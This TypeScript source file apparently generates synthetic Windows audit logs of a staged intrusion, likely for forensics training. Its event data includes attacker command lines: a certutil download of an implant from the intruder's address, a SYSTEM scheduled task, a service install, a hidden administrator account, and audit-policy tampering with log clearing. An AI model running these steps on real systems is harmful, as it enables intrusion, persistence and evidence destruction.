import type { Random } from '../../tenant/random.ts';
import type { Collection } from '../collectedHost.ts';
import { scheduledTaskXml } from './scheduledTaskXml.ts';
import { secondsAfter } from '../text.ts';
import { session, upperGuid, type Account, type Actors, type Session } from './actors.ts';
import type { AuditEvent, AuditValue } from './auditEvent.ts';
import { clearedId } from './auditForms.ts';
import { processStart } from './programStarts.ts';
import { bySubject, failedSignIn, signIn, ticksAt, type Failure } from './signIns.ts';

const hour = 3600;
/** Before the collection: Defender finds the program that is brought here within the half day that follows. */
const beginsBefore = 75 * hour;
const implant = 'C:\\Users\\Public\\Libraries\\upd.exe';
const system32 = 'C:\\Windows\\System32\\';

/**
 * Somebody guesses a password from the internet, comes in by remote desktop, settles down, goes on to another computer,
 * and clears the log. What is left there is what the other files of the package show: the program, its task and the
 * service.
 */
export function intrusion(collection: Collection, actors: Actors): AuditEvent[] {
  const random = collection.choices('intrusion');
  const begin = secondsAfter(collection.startedAt, -beginsBefore + random.integer(0, hour));
  const at = (seconds: number): Date => secondsAfter(begin, seconds);
  const session10 = session(actors.administrator, random);
  return [
    ...guesses(actors, at, random),
    ...signIn(
      actors,
      {
        type: 3,
        at: at(148),
        session: session(actors.administrator, random),
        from: actors.intruder,
        isNtlm: true,
        lasts: 900,
      },
      random,
    ),
    ...signIn(
      actors,
      {
        type: 10,
        at: at(150),
        session: session10,
        from: actors.intruder,
        isPrivileged: true,
        lasts: 2_400_000,
      },
      random,
    ),
    ...settling(actors, session10, at, random),
    ...account(actors, session10, at, random),
    ...onwards(actors, session10, at, random),
    ...traces(actors, session10, at, random),
  ];
}

type At = (seconds: number) => Date;

function guesses(actors: Actors, at: At, random: Random): AuditEvent[] {
  const { intruder, colleague, administrator, host } = actors;
  const unknown = (name: string): Account => ({ name, domain: host.name, sid: 'S-1-0-0' });
  const tries: readonly (readonly [account: Account, type: 3 | 10, why: Failure])[] = [
    [unknown('admin'), 3, 'nobody'],
    [unknown('administrator'), 3, 'nobody'],
    [unknown('test'), 3, 'nobody'],
    [colleague, 3, 'password'],
    [colleague, 3, 'locked'],
    [colleague, 10, 'notGranted'],
    [administrator, 3, 'password'],
    [administrator, 3, 'password'],
  ];
  return tries.map(([who, type, why], index) =>
    failedSignIn(actors, { at: at(17 * index), account: who, from: intruder, type, why }, random),
  );
}

function settling(actors: Actors, by: Session, at: At, random: Random): AuditEvent[] {
  const explorer = { pid: random.integer(900, 3000) * 4, path: 'C:\\Windows\\explorer.exe' };
  const shell = { pid: random.integer(900, 3000) * 4, path: `${system32}cmd.exe` };
  const start = (
    seconds: number,
    path: string,
    commandLine: string,
    parent = shell,
    pid = random.integer(900, 3000) * 4,
  ): AuditEvent => processStart(ticksAt(at(seconds), random), by, { path, commandLine, pid, parent });
  const subject = bySubject(by);
  return [
    start(190, shell.path, `"${shell.path}"`, explorer, shell.pid),
    start(204, `${system32}whoami.exe`, 'whoami /all'),
    start(
      231,
      `${system32}certutil.exe`,
      `certutil -urlcache -f http://${actors.intruder.address}/upd.bin ${implant}`,
    ),
    start(248, implant, `${implant} -q`),
    start(
      290,
      `${system32}schtasks.exe`,
      `schtasks /create /tn upd /tr "${implant} -q" /sc onlogon /ru SYSTEM`,
    ),
    {
      eventId: 4698,
      time: ticksAt(at(291), random),
      values: {
        ...subject,
        TaskName: '\\upd',
        TaskContent: scheduledTaskXml(actors, by, implant, at(291)),
      },
    },
    start(
      330,
      `${system32}sc.exe`,
      'sc create NorthwindSupport binPath= "C:\\Program Files\\Northwind Support\\nwsvc.exe" start= auto',
    ),
    {
      eventId: 4697,
      time: ticksAt(at(331), random),
      values: {
        ...subject,
        ServiceName: 'NorthwindSupport',
        ServiceFileName: 'C:\\Program Files\\Northwind Support\\nwsvc.exe',
        ServiceType: 0x10,
        ServiceStartType: 2,
        ServiceAccount: 'LocalSystem',
      },
    },
  ];
}

/** An account that is gone again before the collection, as its list of users does not have it. */
function account(actors: Actors, by: Session, at: At, random: Random): AuditEvent[] {
  const { host, administrator } = actors;
  const name = 'support$';
  const sid = `${administrator.sid.slice(0, administrator.sid.lastIndexOf('-'))}-1187`;
  const made = { TargetUserName: name, TargetDomainName: host.name, TargetSid: sid };
  const group = {
    MemberSid: sid,
    TargetUserName: 'Administrators',
    TargetDomainName: 'Builtin',
    TargetSid: 'S-1-5-32-544',
  };
  const event = (eventId: number, seconds: number, values: Record<string, AuditValue>): AuditEvent => ({
    eventId,
    time: ticksAt(at(seconds), random),
    values: { ...values, ...bySubject(by) },
  });
  return [
    event(4720, 402, {
      ...made,
      SamAccountName: name,
      DisplayName: '%%1793',
      PasswordLastSet: '%%1794',
      AccountExpires: '%%1794',
      PrimaryGroupId: '513',
      OldUacValue: '0x0',
      NewUacValue: '0x15',
      UserAccountControl: '\r\n\t\t%%2080\r\n\t\t%%2082\r\n\t\t%%2084',
      LogonHours: '%%1797',
    }),
    event(4722, 403, made),
    event(4732, 409, group),
    event(4733, 2231, group),
    event(4726, 2236, made),
  ];
}

function onwards(actors: Actors, by: Session, at: At, random: Random): AuditEvent[] {
  const { backup, fileServer } = actors;
  return [
    {
      eventId: 4648,
      time: ticksAt(at(940), random),
      reportedBy: actors.process('lsass.exe').pid,
      values: {
        ...bySubject(by),
        TargetUserName: backup.name,
        TargetDomainName: backup.domain,
        TargetLogonGuid: upperGuid(random),
        TargetServerName: fileServer.name,
        TargetInfo: `cifs/${fileServer.name}`,
        ProcessId: random.integer(900, 3000) * 4,
        ProcessName: implant,
      },
    },
    {
      eventId: 5156,
      time: ticksAt(at(941), random),
      values: {
        ProcessID: 4,
        Application: 'System',
        Direction: '%%14593',
        SourceAddress: actors.host.address,
        SourcePort: String(random.integer(49_152, 65_535)),
        DestAddress: fileServer.address,
        DestPort: '445',
        Protocol: 6,
        FilterRTID: random.integer(70_000, 90_000),
        LayerName: '%%14611',
        LayerRTID: 48,
      },
    },
  ];
}

function traces(actors: Actors, by: Session, at: At, random: Random): AuditEvent[] {
  return [
    {
      eventId: 4719,
      time: ticksAt(at(2244), random),
      reportedBy: actors.process('lsass.exe').pid,
      values: {
        ...bySubject(actors.system),
        CategoryId: '%%8274',
        SubcategoryId: '%%12804',
        SubcategoryGuid: '{0CCE9227-69AE-11D9-BED3-505054503030}',
        AuditPolicyChanges: '%%8448, %%8450',
      },
    },
    { eventId: clearedId, time: ticksAt(at(2251), random), values: bySubject(by) },
  ];
}
